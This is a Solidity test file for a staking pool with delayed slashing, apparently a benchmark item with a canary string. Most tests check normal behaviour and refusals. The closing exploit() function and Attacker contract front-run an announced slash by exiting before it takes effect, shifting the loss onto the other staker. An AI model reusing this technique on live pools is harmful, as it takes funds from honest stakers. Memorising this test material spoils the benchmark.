// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-e9ae59cb-072e-4cad-af74-1a97da6b908a

import "./StakingPool.sol";

interface Vm {
    function deal(address who, uint256 amount) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Staker {
    StakingPool internal pool;

    constructor(StakingPool pool_) {
        pool = pool_;
    }

    receive() external payable virtual {}

    function stake(uint256 amount) external {
        pool.stake{value: amount}();
    }

    function requestExit(uint256 shares) public returns (uint256) {
        return pool.requestExit(shares);
    }
}

/// Comes back while it is paid, and insists on being refused.
contract Impatient is Staker {
    bytes internal call;

    constructor(StakingPool pool_) Staker(pool_) {}

    receive() external payable override {
        if (call.length == 0) return;
        (bool ok, bytes memory why) = address(pool).call(call);
        bytes memory expected = abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call");
        require(!ok && keccak256(why) == keccak256(expected), "let through");
    }

    function plan(bytes calldata call_) external {
        call = call_;
    }
}

/// Takes no ether.
contract Sealed {
    StakingPool private pool;

    constructor(StakingPool pool_) payable {
        pool = pool_;
    }

    function enter() external returns (uint256) {
        return pool.requestExit(pool.stake{value: address(this).balance}());
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;
    address payable private constant FUND = payable(address(0xF00D));
    address payable private constant TREASURY = payable(address(0x7EA5));
    address private constant SLASHER = address(0x51A5);
    address private constant REWARDER = address(0x4E3A);
    address private constant GUARDIAN = address(0x6A4D);
    address private constant RELAYER = address(0x4E1A);
    address private constant ANA = address(0xA9A);

    SlashingManager private manager;
    StakingPool private pool;
    Staker private steady;
    Attacker private leaver;

    receive() external payable {}

    function setUp() public {
        vm.warp(START);
        manager = new SlashingManager(FUND, SLASHER);
        pool = new StakingPool(manager, TREASURY, REWARDER, GUARDIAN, 1_000 ether);
        manager.setPool(address(pool));
        manager.setRelayer(RELAYER, true);
        steady = new Staker(pool);
        leaver = new Attacker(pool);
        vm.deal(address(steady), 60 ether);
        vm.deal(address(leaver), 40 ether);
        steady.stake(60 ether);
        leaver.stake(40 ether);
        vm.deal(address(this), 100 ether);
        vm.deal(REWARDER, 100 ether);
        vm.deal(ANA, 20 ether);

        // A relayer signed twice; the slash becomes effective in two days.
        vm.warp(START + 30 days);
        vm.prank(SLASHER);
        manager.announce(RELAYER, 3_000);
    }

    function _near(uint256 a, uint256 b) private pure returns (bool) {
        return a + 1e9 >= b && b + 1e9 >= a;
    }

    function _announce(uint256 bps) private {
        vm.prank(SLASHER);
        manager.announce(RELAYER, bps);
    }

    function _withdraw() private {
        vm.prank(SLASHER);
        manager.withdraw();
    }

    function test_Regular() public {
        uint256 shares = pool.sharesOf(address(steady));
        require(_near(pool.valueOf(shares), 60 ether), "value of the stake");

        // The slash is taken when it is effective, not before.
        pool.settleSlash();
        require(pool.staked() == 100 ether, "not effective");
        vm.warp(START + 32 days);
        pool.releaseSlashed();
        require(pool.staked() == 70 ether && FUND.balance == 30 ether, "taken");
        require(_near(pool.valueOf(shares), 42 ether), "shared by all");
        pool.settleSlash();
        require(pool.staked() == 70 ether && pool.surplus() == 0, "taken once");

        // Rewards, with and without a fee.
        vm.prank(REWARDER);
        pool.reward{value: 2 ether}();
        pool.setRewardFee(1_000);
        vm.prank(REWARDER);
        pool.reward{value: 2 ether}();
        require(pool.staked() == 73.8 ether && pool.feesAccrued() == 0.2 ether, "rewarded");
        pool.collectFees();
        require(TREASURY.balance == 0.2 ether && pool.feesAccrued() == 0, "fees");
        require(_near(pool.stakeOf(address(steady)), 44.28 ether), "three fifths");

        _exits(shares);
        _settings();

        // A withdrawn announcement costs nobody anything; a newcomer pays the present price.
        _announce(5_000);
        _withdraw();
        vm.warp(START + 60 days);
        require(_near(pool.stakeOf(address(leaver)), 29.52 ether), "no slash");
        uint256 hers = pool.previewStake(5 ether);
        vm.prank(ANA);
        require(pool.stake{value: 5 ether}() == hers && _near(pool.valueOf(hers), 5 ether), "fair price");
        require(pool.maxStake() == 500 ether - pool.staked(), "room");
        pool.renounceRole(0, address(this));
    }

    function _exits(uint256 shares) private {
        vm.startPrank(address(steady));
        uint256 id = pool.requestExit(shares);
        require(pool.sharesOf(address(steady)) == 0 && pool.exitsOf(address(steady)).length == 1, "waits");
        require(_near(pool.stakeOf(address(steady)), 44.28 ether), "still at stake");
        pool.cancelExit(id);
        require(pool.sharesOf(address(steady)) == shares && pool.exitsOf(address(steady)).length == 0, "shares are back");
        id = pool.requestExit(shares / 2);
        uint256[] memory more = new uint256[](2);
        more[0] = pool.requestExit(shares / 10);
        more[1] = pool.requestExit(shares / 10);
        vm.stopPrank();
        StakingPool.Exit memory exit = pool.exitInfo(id);
        require(exit.account == address(steady) && _near(exit.value, 22.14 ether), "exit noted");
        require(exit.shares == shares / 2 && exit.readyAt == START + 39 days, "and its day");
        vm.warp(START + 39 days);
        require(_near(pool.payExit(id), 22.14 ether) && _near(address(steady).balance, 22.14 ether), "paid");
        pool.payExits(more);
        require(_near(address(steady).balance, 30.996 ether), "paid both");
        require(pool.exitsOf(address(steady)).length == 0 && pool.exitCount() == 4, "no exit is left");
    }

    function _settings() private {
        pool.setDepositCap(500 ether);
        pool.setTreasury(payable(address(0x7EA6)));
        vm.deal(address(pool), address(pool).balance + 1 ether);
        require(pool.surplus() == 1 ether, "surplus");
        pool.sweepSurplus();
        require(address(0x7EA6).balance == 1 ether && pool.surplus() == 0, "swept");
        vm.prank(GUARDIAN);
        pool.pause();
        require(pool.maxStake() == 0, "paused");
        pool.unpause();
        pool.grantRole(pool.GUARDIAN_ROLE(), ANA);
        pool.revokeRole(pool.GUARDIAN_ROLE(), ANA);
    }

    // What is refused, each from the state after setUp().

    function test_RefusesSetups() public {
        vm.expectRevert("StakingPool: no manager");
        new StakingPool(SlashingManager(address(0)), TREASURY, REWARDER, GUARDIAN, 1);
        vm.expectRevert("PoolSettings: no treasury");
        new StakingPool(manager, payable(address(0)), REWARDER, GUARDIAN, 1);
        vm.expectRevert("SlashingManager: no fund");
        new SlashingManager(payable(address(0)), SLASHER);
        vm.expectRevert("SlashingManager: pool is set");
        manager.setPool(ANA);
        vm.expectRevert("PoolSettings: fee too high");
        pool.setRewardFee(2_001);
        pool.setRewardFee(2_000);
        vm.expectRevert("PoolSettings: no treasury");
        pool.setTreasury(payable(address(0)));
    }

    function test_RefusesStakes() public {
        vm.expectRevert("StakingPool: too little");
        pool.stake{value: 0.01 ether - 1}();
        pool.setDepositCap(105 ether);
        vm.expectRevert("StakingPool: above the cap");
        pool.stake{value: 5 ether + 1}();
        pool.stake{value: 5 ether}();
        pool.setDepositCap(1_000 ether);
        vm.prank(GUARDIAN);
        pool.pause();
        vm.expectRevert("Pausable: paused");
        pool.stake{value: 5 ether}();
        vm.prank(GUARDIAN);
        vm.expectRevert("Pausable: paused");
        pool.pause();
        pool.unpause();
        vm.expectRevert("Pausable: not paused");
        pool.unpause();
    }

    function test_RefusesRewards() public {
        vm.startPrank(REWARDER);
        vm.expectRevert("StakingPool: reward too large");
        pool.reward{value: 5 ether + 1}();
        pool.reward{value: 5 ether}();
        vm.stopPrank();
    }

    function test_RefusesExits() public {
        uint256 all = pool.sharesOf(address(steady));
        vm.startPrank(address(steady));
        vm.expectRevert("StakingPool: bad shares");
        pool.requestExit(0);
        vm.expectRevert("StakingPool: bad shares");
        pool.requestExit(all + 1);
        uint256 id = pool.requestExit(all);
        vm.expectRevert("StakingPool: bad shares");
        pool.requestExit(1);
        vm.stopPrank();
        vm.expectRevert("StakingPool: not your exit");
        pool.cancelExit(id);
        vm.expectRevert("StakingPool: no exit");
        pool.payExit(id + 1);
        _withdraw();
        vm.expectRevert("StakingPool: too early");
        pool.payExit(id);
        vm.warp(START + 37 days);
        _announce(100);
        vm.expectRevert("StakingPool: slash announced");
        pool.payExit(id);
        _withdraw();
        pool.payExit(id);
        vm.expectRevert("StakingPool: no exit");
        pool.payExit(id);
        vm.prank(address(steady));
        vm.expectRevert("StakingPool: not your exit");
        pool.cancelExit(id);
    }

    /// One payment at a time, to who takes it.
    function test_RefusesEntries() public {
        _withdraw();
        Impatient pat = new Impatient(pool);
        vm.deal(address(pat), 10 ether);
        pat.stake(10 ether);
        uint256 third = pool.sharesOf(address(pat)) / 3;
        uint256 first = pat.requestExit(third);
        uint256[] memory second = new uint256[](1);
        second[0] = pat.requestExit(third);
        uint256[] memory last = new uint256[](1);
        last[0] = pat.requestExit(third);
        Sealed box = new Sealed{value: 1 ether}(pool);
        uint256 stuck = box.enter();
        vm.warp(START + 37 days);
        pat.plan(abi.encodeCall(pool.payExits, (second)));
        pool.payExit(first);
        pat.plan(abi.encodeCall(pool.payExit, (last[0])));
        pool.payExits(second);
        vm.expectRevert("Address: unable to send value, recipient may have reverted");
        pool.payExit(stuck);
    }

    function test_RefusesSlashes() public {
        vm.startPrank(SLASHER);
        vm.expectRevert("SlashingManager: one at a time");
        manager.announce(RELAYER, 1);
        manager.withdraw();
        vm.expectRevert("SlashingManager: nothing to withdraw");
        manager.withdraw();
        vm.expectRevert("SlashingManager: bad size");
        manager.announce(RELAYER, 0);
        vm.expectRevert("SlashingManager: bad size");
        manager.announce(RELAYER, 5_001);
        vm.expectRevert("SlashingManager: not a relayer");
        manager.announce(ANA, 1);
        manager.announce(RELAYER, 5_000);
        vm.warp(START + 32 days);
        vm.expectRevert("SlashingManager: nothing to withdraw");
        manager.withdraw();
        vm.expectRevert("SlashingManager: not the pool");
        manager.take();
        vm.stopPrank();
        pool.settleSlash();
        require(pool.staked() == 50 ether && pool.slashedAccrued() == 50 ether, "half");
    }

    function test_RefusesStrangers() public {
        SlashingManager other = new SlashingManager(FUND, SLASHER);
        bytes32 guardian = pool.GUARDIAN_ROLE();
        vm.prank(GUARDIAN);
        pool.pause();
        vm.startPrank(ANA);
        vm.expectRevert();
        pool.unpause();
        vm.expectRevert();
        pool.setRewardFee(1);
        vm.expectRevert();
        pool.setDepositCap(1);
        vm.expectRevert();
        pool.setTreasury(payable(ANA));
        vm.expectRevert();
        pool.reward{value: 1}();
        vm.expectRevert();
        pool.sweepSurplus();
        vm.expectRevert();
        pool.grantRole(guardian, ANA);
        vm.expectRevert();
        pool.revokeRole(guardian, GUARDIAN);
        vm.expectRevert("AccessControl: can only renounce roles for self");
        pool.renounceRole(guardian, GUARDIAN);
        vm.expectRevert();
        other.setPool(ANA);
        vm.expectRevert();
        manager.setRelayer(ANA, true);
        vm.expectRevert();
        manager.withdraw();
        vm.stopPrank();
        _withdraw();
        pool.unpause();
        vm.startPrank(ANA);
        vm.expectRevert();
        manager.announce(RELAYER, 1);
        vm.expectRevert();
        pool.pause();
        vm.stopPrank();
    }

    function exploit() public {
        leaver.ask();
        vm.warp(block.timestamp + 7 days);
        leaver.collect();
    }

    function test_Exploit() public {
        uint256 before = address(leaver).balance;
        exploit();
        require(address(leaver).balance >= before + 39.9 ether, "bore the slash");
        require(pool.stakeOf(address(steady)) < 31 ether, "the other bears it all");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(leaver);
    }
}

/// A staker like the others who reads announcements.
contract Attacker is Staker {
    uint256 private id;

    constructor(StakingPool pool_) Staker(pool_) {}

    function ask() external {
        id = requestExit(pool.sharesOf(address(this)));
    }

    function collect() external {
        pool.payExit(id);
    }
}
